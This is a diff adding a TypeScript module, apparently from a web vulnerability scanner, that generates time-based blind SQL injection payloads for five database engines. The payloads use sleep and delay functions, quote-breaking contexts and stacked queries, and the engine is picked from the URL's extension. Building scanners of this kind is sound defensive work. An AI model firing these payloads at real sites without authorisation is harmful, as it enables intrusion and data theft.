@@ -1,0 +1,92 @@
+import type { InjectionPoint } from '../../../evidence/parse/application/injection-point.ts';
+
+/** A condition that holds after a delay. `amount`: seconds, or steps of a calculation. */
+type Delay = (amount: number) => string;
+
+type Context = (value: string, condition: string) => string;
+
+interface Database {
+  readonly name: string;
+  readonly delay: Delay;
+  /** Steps that take some tenths of a second, where the database calculates instead of waiting. */
+  readonly steps?: number;
+  readonly numbers: readonly Context[];
+  readonly texts: readonly Context[];
+}
+
+/** A value with a delay in it. */
+export interface DelayForm {
+  readonly database: Database;
+  value(amount: number): string;
+}
+
+// The value stays the same, or a condition is added with AND: the statement concerns no more rows than before.
+const CHOSEN: Context = (value, condition) => `(CASE WHEN ${condition} THEN ${value} ELSE ${value} END)`;
+const LISTED: Context = (value, condition) => `${value},(CASE WHEN ${condition} THEN 1 ELSE 2 END)`;
+const SINGLE: Context = (value, condition) => `${value}' AND ${condition} AND '1'='1`;
+const BRACKETED: Context = (value, condition) => `${value}') AND ${condition} AND ('1'='1`;
+const DOUBLE: Context = (value, condition) => `${value}" AND ${condition} AND "1"="1`;
+const LIKE: Context = (value, condition) => `${value}%' AND ${condition} AND '1' LIKE '1`;
+const JOINED: Context = (value, condition) => `${value}'||(CASE WHEN ${condition} THEN '' ELSE '' END)||'`;
+const stacked =
+  (end: string): Context =>
+  (value, statement) =>
+    `${value}${end} AND 1=0;${statement}--`;
+
+/** Each delay is evaluated once for a statement, not once for a row. */
+const MYSQL: Database = {
+  name: 'MySQL',
+  delay: (s) => `1=(SELECT 1 FROM (SELECT SLEEP(${s}))z)`,
+  numbers: [CHOSEN, SINGLE, DOUBLE],
+  texts: [SINGLE, DOUBLE, LIKE, BRACKETED],
+};
+const POSTGRES: Database = {
+  name: 'PostgreSQL',
+  delay: (s) => `1=(SELECT 1 FROM PG_SLEEP(${s}))`,
+  numbers: [CHOSEN, SINGLE],
+  texts: [JOINED, SINGLE],
+};
+const SQLITE: Database = {
+  name: 'SQLite',
+  delay: (n) =>
+    `1=(WITH RECURSIVE z(i) AS (SELECT 0 UNION ALL SELECT i+1 FROM z WHERE i<${n}) SELECT COUNT(*)>0 FROM z)`,
+  steps: 2_000_000,
+  numbers: [CHOSEN, JOINED],
+  texts: [JOINED],
+};
+const SQL_SERVER: Database = {
+  name: 'SQL Server',
+  delay: (s) => `WAITFOR DELAY '0:0:${s}'`,
+  numbers: ['', "'", ')', "')"].map(stacked),
+  texts: ["'", "')"].map(stacked),
+};
+const ORACLE: Database = {
+  name: 'Oracle',
+  delay: (s) => `1=(SELECT DBMS_PIPE.RECEIVE_MESSAGE('z',${s}) FROM DUAL)`,
+  numbers: [CHOSEN, JOINED],
+  texts: [JOINED],
+};
+
+const NUMBER = /^-?\d{1,15}(?:\.\d{1,10})?$/;
+const SORTS = /sort|order|^by$|col|field|group|^dir/i;
+
+/** The forms that may fit a point, the most likely first. */
+export function delaysFor({ name, value, url }: InjectionPoint): readonly DelayForm[] {
+  const isSorting = SORTS.test(name) || /^(?:asc|desc)$/i.test(value);
+  return databasesFor(url).flatMap((database) => {
+    const contexts = NUMBER.test(value) ? database.numbers : database.texts;
+    return [...(isSorting && database !== SQL_SERVER ? [LISTED] : []), ...contexts].map((context) => ({
+      database,
+      value: (amount: number) => context(value, database.delay(amount)),
+    }));
+  });
+}
+
+/** By what the path tells of the language. */
+function databasesFor(url: string): readonly Database[] {
+  const { pathname } = new URL(url);
+  if (/\.php\b/i.test(pathname)) return [MYSQL, POSTGRES, SQLITE];
+  if (/\.as[hpm]x?\b/i.test(pathname)) return [SQL_SERVER, ORACLE, MYSQL];
+  if (/\.(?:jsp|do|action)\b/i.test(pathname)) return [MYSQL, ORACLE, POSTGRES, SQL_SERVER];
+  return [MYSQL, POSTGRES, SQLITE, SQL_SERVER, ORACLE];
+}
